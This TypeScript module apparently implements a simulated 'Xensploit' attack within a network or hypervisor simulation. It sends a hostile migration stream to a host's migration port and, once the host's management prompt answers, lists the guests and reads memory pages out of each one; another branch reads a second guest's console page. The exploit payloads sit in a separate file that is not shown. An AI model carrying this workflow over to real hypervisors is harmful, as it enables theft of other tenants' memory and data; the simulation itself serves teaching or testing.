/**
 * Sends a stream to the port at which a host lets migrations in, and takes what comes of it: the host's management, through which it
 * reads the other guests; or what the guest that it sent was given to read. The name is that of the tool of 2008.
 */
import type { ByteStream, StreamOwner } from '../../base/byte-stream.js'
import type { Failure } from '../../base/errors.js'
import { concatOctets, latin1Octets, latin1Text } from '../../base/octets.js'
import { PAGE_OCTETS } from '../../base/units.js'
import { RELOCATION_READY, RELOCATION_REQUEST } from '../../hypervisor/wire/restore-stream.js'
import { ipv4Text, type Ipv4Address } from '../../net/wire/addresses.js'
import type { Attack, Reach } from '../reach.js'
import { knownProgram } from './known-program.js'
import { SealedClient } from './sealed-client.js'
import { exploits, type ExploitName } from './restore-exploits.js'

const READ_OCTETS = 65_536
const PROMPT = '# '
const LINE_OCTETS_MAX = 256
/** Text that is shown of a page. */
const WORDS_OCTETS_MIN = 8

export interface XensploitOptions {
  readonly exploit: ExploitName
  readonly victim: Ipv4Address
  readonly port: number
  /** Over TLS, with a certificate of the attacker's own for that name; null without. */
  readonly sealedAs: string | null
  /** Of each guest's memory, what is to be read. */
  readonly page: number
}

type Step = 'request' | 'hostile stream' | 'list' | 'read' | 'over'

export class Xensploit implements Attack, StreamOwner {
  private step: Step = 'request'
  private stream: ByteStream | null = null
  private received: Uint8Array = new Uint8Array(0)
  private unsent: Uint8Array = new Uint8Array(0)
  /** Guests whose memory is to be read. */
  private guests: string[] = []

  constructor(
    private readonly reach: Reach,
    private readonly options: XensploitOptions,
  ) {}

  start(): void {
    const { victim, port, sealedAs } = this.options
    const { random, station } = this.reach
    const connection = station.connect(victim, port)
    const names = { own: sealedAs ?? '', server: ipv4Text(victim) }
    this.stream = sealedAs === null ? connection : new SealedClient(connection, random, names)
    this.stream.owner = this
  }

  stop(): void {
    this.step = 'over'
    this.stream?.abort()
  }

  takesFrame(): boolean {
    return false
  }

  streamOpened(stream: ByteStream): void {
    const { victim, port, sealedAs } = this.options
    const how =
      sealedAs === null ? 'the host takes connections from anybody' : `TLS, as ${sealedAs}, with its own certificate`
    this.reach.tell('connect', `${ipv4Text(victim)}, TCP port ${port}: ${how}`)
    this.send(stream, latin1Octets(RELOCATION_REQUEST))
  }

  streamWritable(stream: ByteStream): void {
    this.flush(stream)
  }

  streamReadable(stream: ByteStream): void {
    while (stream.readableOctets() > 0) this.received = concatOctets([this.received, stream.read(READ_OCTETS)])
    if (this.step === 'request') this.sendExploit(stream)
    if (this.step === 'hostile stream') this.takeControl(stream)
    if (this.step === 'list') this.takeList(stream)
    if (this.step === 'read') this.takePage(stream)
  }

  streamEnded(): void {
    this.end('the host has ended the connection')
  }

  streamFailed(_stream: ByteStream, { message }: Failure): void {
    this.end(this.step === 'request' ? `nothing receives: ${message}` : 'the connection is cut: what received is gone')
  }

  private sendExploit(stream: ByteStream): void {
    if (!this.takeAfter(RELOCATION_READY)) return
    const octets = exploits[this.options.exploit](knownProgram)
    this.reach.tell('send', `a migration of ${octets.length} octets: ${this.options.exploit}`)
    this.step = 'hostile stream'
    this.send(stream, octets)
  }

  private takeControl(stream: ByteStream): void {
    // A guest that reads too much, and not its host's management.
    if (this.options.exploit === 'device-index') return this.takeKeys(stream)
    if (!this.takeAfter(PROMPT)) return
    this.reach.tell('control', 'the host’s management answers at the connection')
    this.step = 'list'
    this.send(stream, latin1Octets('list\n'))
  }

  private takeKeys(stream: ByteStream): void {
    if (this.received.length < PAGE_OCTETS) return
    this.tellPage('page 0 of another guest, where its console is mapped', this.received.subarray(0, PAGE_OCTETS))
    this.leave(stream)
  }

  private takeList(stream: ByteStream): void {
    const text = latin1Text(this.received)
    if (!text.endsWith(PROMPT)) return
    this.guests = text
      .slice(0, -PROMPT.length)
      .split('\n')
      .filter((name) => name !== '')
    this.received = new Uint8Array(0)
    this.step = 'read'
    this.askNext(stream)
  }

  private takePage(stream: ByteStream): void {
    const isMissing = /^no page [^\n]*\n# $/.test(latin1Text(this.received.subarray(0, LINE_OCTETS_MAX)))
    if (!isMissing && this.received.length < PAGE_OCTETS + PROMPT.length) return
    const guest = this.guests.shift() ?? ''
    if (isMissing) this.reach.tell('read', `${guest} has no page ${this.options.page}`)
    else this.tellPage(`page ${this.options.page} of ${guest}`, this.received.subarray(0, PAGE_OCTETS))
    this.received = new Uint8Array(0)
    this.askNext(stream)
  }

  private askNext(stream: ByteStream): void {
    const [guest] = this.guests
    if (guest === undefined) this.leave(stream)
    else this.send(stream, latin1Octets(`read ${guest} ${this.options.page}\n`))
  }

  private tellPage(which: string, page: Uint8Array): void {
    const words = latin1Text(page).match(new RegExp(`[\\x20-\\x7e]{${WORDS_OCTETS_MIN},}`, 'g')) ?? []
    this.reach.tell('read', `${which}: ${words.length === 0 ? 'no text' : words.join(' · ')}`)
  }

  /** What comes after `text`, once all of it came. */
  private takeAfter(text: string): boolean {
    if (latin1Text(this.received.subarray(0, text.length)) !== text) return false
    this.received = this.received.slice(text.length)
    return true
  }

  private leave(stream: ByteStream): void {
    this.step = 'over'
    stream.end()
  }

  private end(why: string): void {
    if (this.step !== 'over') this.reach.tell(this.step === 'request' ? 'connect' : 'send', why)
    this.step = 'over'
    this.stream?.end()
  }

  private send(stream: ByteStream, octets: Uint8Array): void {
    this.unsent = concatOctets([this.unsent, octets])
    this.flush(stream)
  }

  private flush(stream: ByteStream): void {
    const octets = this.unsent.subarray(0, stream.writableOctets())
    if (octets.length > 0) stream.write(octets)
    this.unsent = this.unsent.slice(octets.length)
  }
}
